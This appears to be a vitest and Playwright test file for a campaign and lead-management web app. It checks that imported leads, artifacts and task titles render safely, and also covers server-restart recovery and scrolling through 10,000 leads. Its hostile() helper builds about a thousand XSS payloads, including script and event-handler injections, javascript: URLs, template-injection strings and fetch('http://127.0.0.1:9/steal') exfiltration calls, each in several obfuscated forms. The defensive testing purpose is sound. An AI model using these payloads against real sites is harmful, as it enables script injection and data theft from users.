import { afterAll, beforeAll, expect, test } from "vitest";
import { quit } from "../chromium";
import { Program } from "./program";

const program = new Program();
beforeAll(() => program.start());
afterAll(async () => {
  await quit();
  await program.end();
});

const create = async (name: string): Promise<string> => {
  const goal = "engineers at software companies";
  return (await program.call<{ id: string }>("POST", "/api/campaigns", { name, goal, account: "premium" })).id;
};

/** Ways in which text has become a program somewhere, each with every way of calling something. */
function hostile(): string[] {
  const calls = [
    "window.hacked=1",
    "alert(1)",
    "fetch('http://127.0.0.1:9/steal')",
    "import('http://127.0.0.1:9/x.js')",
  ];
  const shapes = [
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<a href=javascript:{}>here</a>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    '"><script>{}</script>',
    "'-{}-'",
    "`$" + "{{}}`",
    "{{constructor.constructor('{}')()}}",
    "[here](javascript:{})",
    "![x](http://127.0.0.1:9/pixel)",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<link rel=stylesheet href=http://127.0.0.1:9/x.css>",
    "<style>@import 'http://127.0.0.1:9/x.css'</style>",
    "<object data=http://127.0.0.1:9/x></object>",
    "<meta http-equiv=refresh content=0;url=http://127.0.0.1:9/>",
  ];
  const disguises: ((text: string) => string)[] = [
    (text) => text,
    (text) => text.toUpperCase().replaceAll("WINDOW.HACKED", "window.hacked"),
    (text) => text.replaceAll("<", "\u003c\u200b"),
    (text) => text.replaceAll(" ", "/"),
    (text) => `\u202e${text}`,
    (text) => `Ada ${text} Lovelace`,
    (text) => encodeURI(text),
    (text) => text.replaceAll("<", "&lt;"),
    (text) => `${text}${text}`,
    (text) => text.replaceAll("o", "&#111;"),
  ];
  return shapes.flatMap((shape) =>
    calls.flatMap((call) => disguises.map((disguise) => disguise(shape.replaceAll("{}", call)))),
  );
}

const parted = (all: string[], first: (one: string) => boolean) =>
  [all.filter(first), all.filter((one) => !first(one))] as const;

const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;

test("hostile text in leads, messages and artifacts executes nothing and fetches nothing", async () => {
  const strings = hostile();
  expect(strings.length).toBe(1000);
  const campaign = await create("Hostile");
  const rows = strings.map(
    (text, place) => `${cell(text)},${cell(text)},${cell(text)},https://www.linkedin.com/in/hostile-${place}`,
  );
  const file = `Full name,Company,Title,Profile URL\n${rows.join("\n")}\n`;
  await program.call("POST", `/api/campaigns/${campaign}/imports?file=hostile.csv`, file);
  const content = { text: strings.slice(0, 400).join("\n") };
  await program.call("POST", `/api/campaigns/${campaign}/artifacts`, {
    artifact_type: "context",
    artifact_key: "hostile",
    content,
  });
  // A list takes a title of one line that reads in one direction, whatever else it says.
  const [titles, turned] = parted(
    strings.filter((text, place) => place % 23 === 0 && text.length <= 200),
    (title) => !title.startsWith("\u202e"),
  );
  expect(titles.length).toBeGreaterThan(30);
  for (const title of titles) await program.call("POST", "/api/todo/tasks", { title });
  for (const title of turned)
    await expect(program.call("POST", "/api/todo/tasks", { title })).rejects.toThrow("LIST_BAD_TITLE");
  const { context, page } = await program.open();
  const elsewhere: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(program.url) && !request.url().startsWith("blob:")) elsewhere.push(request.url());
  });
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const screens = ["leads", "leads?lead=1", "leads?lead=77", "timeline", "artifacts", "report", "tasks"];
  for (const screen of [...screens.map((name) => `/campaigns/${campaign}/${name}`), "/todo", "/approvals", "/"]) {
    await page.goto(program.url + screen);
    await page.waitForTimeout(700);
    for (let turn = 0; turn < 4; turn += 1) {
      await page.mouse.move(700, 500);
      await page.mouse.wheel(0, 4000);
      await page.waitForTimeout(100);
    }
    expect(await page.evaluate(() => "hacked" in globalThis)).toBe(false);
  }
  await page.goto(`${program.url}/todo`);
  const shown = page.getByRole("list", { name: "Tasks" }).getByRole("listitem");
  await expect.poll(() => shown.count()).toBe(titles.length);
  const texts = await shown.evaluateAll((items) => items.map((item) => item.textContent));
  for (const [place, title] of titles.entries()) expect(texts[place]).toContain(title.trim());
  expect({ elsewhere, dialogs }).toEqual({ elsewhere: [], dialogs: [] });
  await context.close();
});

test("a page goes on after its server was killed and started again", async () => {
  const { context, page } = await program.open();
  await program.call("POST", "/api/campaigns", { name: "Before", goal: "engineers" });
  await page.getByRole("link", { name: "Before" }).first().waitFor();
  await program.kill();
  await program.start();
  await program.call("POST", "/api/campaigns", { name: "Afterwards", goal: "engineers" });
  // Without a reload and without a new link.
  await page.getByRole("link", { name: "Afterwards" }).first().waitFor({ timeout: 20_000 });
  expect(await page.getByRole("link", { name: "Before", exact: true }).count()).toBe(1);
  await context.close();
});

test("ten thousand leads are scrolled to their end", async () => {
  const campaign = await create("Many");
  const row = (_: unknown, place: number) =>
    `Person ${place},Company ${place % 97},Engineer,https://www.linkedin.com/in/person-${place}`;
  const file = `Full name,Company,Title,Profile URL\n${Array.from({ length: 10_000 }, row).join("\n")}\n`;
  await program.call("POST", `/api/campaigns/${campaign}/imports?file=many.csv`, file);
  const { context, page } = await program.open();
  await page.goto(`${program.url}/campaigns/${campaign}/leads?sort=number&order=asc`);
  await page.getByText("Person 0", { exact: true }).first().waitFor();
  const shown = await page.locator("[role=row]").count();
  expect(shown).toBeLessThan(200);
  await page.mouse.move(700, 600);
  await page.mouse.wheel(0, 10_000_000);
  await page.getByText("Person 9999", { exact: true }).first().waitFor({ timeout: 20_000 });
  await context.close();
});
